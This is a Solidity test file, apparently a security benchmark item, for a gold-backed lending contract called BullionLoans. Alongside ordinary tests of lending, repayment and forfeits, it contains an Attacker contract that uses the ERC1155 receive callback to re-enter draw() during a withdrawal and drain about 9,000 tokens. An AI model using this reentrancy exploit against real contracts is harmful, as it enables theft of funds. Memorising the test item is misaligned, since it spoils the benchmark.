// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC1155/ERC1155.sol";
import "./BullionLoans.sol";

// assay-canary-b94399db-354d-40f8-96e5-727d7546e1a4

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000e18);
    }
}

contract Bars is ERC1155 {
    constructor() ERC1155("") {}

    address private immutable _maker = msg.sender;

    function mint(address to, uint256 n) external {
        require(msg.sender == _maker);
        _mint(to, 1, n, "");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BOSS = address(0xB055);
    address private constant ANA = address(0xA9A);
    uint256 private constant NOW = 1_750_000_000;

    Dollar private usd;
    Bars private gold;
    BullionLoans private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(NOW);
        usd = new Dollar();
        gold = new Bars();
        vm.prank(BOSS);
        desk = new BullionLoans(gold, usd, 1_000e18);
        usd.transfer(address(desk), 50_000e18);
        gold.mint(ANA, 20);
        vm.startPrank(ANA);
        gold.setApprovalForAll(address(desk), true);
        usd.approve(address(desk), type(uint256).max);
        desk.putIn(15);
        desk.draw(1_000e18);
        vm.stopPrank();
        mallory = new Attacker(desk, gold);
        gold.mint(address(mallory), 10);
    }

    function worth() public view returns (uint256) {
        return usd.balanceOf(address(desk)) + gold.balanceOf(address(desk), 1) * 1_000e18;
    }

    function test_Regular() public {
        require(desk.owed(ANA) == 1_020e18 && desk.bars(ANA) == 15 && desk.due(ANA) == NOW + 90 days, "drawn");
        vm.startPrank(ANA);
        desk.putIn(5);
        desk.draw(500e18);
        require(desk.owed(ANA) == 1_530e18 && usd.balanceOf(ANA) == 1_500e18, "drawn again");
        desk.payBack(1_000e18);
        desk.takeOut(19);
        require(gold.balanceOf(ANA, 1) == 19 && desk.bars(ANA) == 1 && desk.owed(ANA) == 530e18, "taken out");
        vm.stopPrank();
        vm.warp(NOW + 91 days);
        vm.startPrank(BOSS);
        desk.forfeit(ANA);
        require(gold.balanceOf(BOSS, 1) == 1 && desk.owed(ANA) == 0 && desk.bars(ANA) == 0, "forfeited");
        desk.collect(10_000e18);
        require(usd.balanceOf(BOSS) == 10_000e18, "collected");
        desk.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        desk.renounceOwnership();
        gold.mint(address(this), 1);
        gold.safeTransferFrom(address(this), address(desk), 1, 1, "");
        uint256[] memory none = new uint256[](2);
        gold.safeBatchTransferFrom(address(this), address(desk), none, none, "");
    }

    function test_RefusesLoans() public {
        vm.expectRevert("bad price");
        new BullionLoans(gold, usd, 99);
        vm.startPrank(ANA);
        vm.expectRevert("not enough gold");
        desk.draw(13_800e18);
        vm.expectRevert("still owed");
        desk.takeOut(14);
        vm.expectRevert();
        desk.takeOut(16);
        vm.expectRevert();
        desk.payBack(1_020e18 + 1);
        vm.stopPrank();
        vm.expectRevert();
        desk.putIn(1);
    }

    function test_RefusesForfeits() public {
        vm.startPrank(BOSS);
        vm.expectRevert(abi.encodeWithSelector(BullionLoans.NotDue.selector, NOW + 90 days));
        desk.forfeit(ANA);
        vm.warp(NOW + 90 days);
        vm.expectRevert(abi.encodeWithSelector(BullionLoans.NotDue.selector, NOW + 90 days));
        desk.forfeit(ANA);
        vm.expectRevert("owes nothing");
        desk.forfeit(BOSS);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.warp(NOW + 91 days);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        desk.forfeit(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        desk.collect(1);
    }

    function onERC1155Received(address, address, uint256, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC1155Received.selector;
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = worth();
        exploit();
        require(worth() + 9_000e18 <= before, "nothing lost");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker is ERC1155Holder {
    BullionLoans private desk;
    Bars private gold;

    constructor(BullionLoans d, Bars g) {
        desk = d;
        gold = g;
    }

    function run() external {
        gold.setApprovalForAll(address(desk), true);
        desk.putIn(10);
        desk.takeOut(10);
    }

    function onERC1155Received(address from, address, uint256, uint256, bytes memory) public override returns (bytes4) {
        if (from == address(desk)) desk.draw(9_800e18);
        return this.onERC1155Received.selector;
    }
}
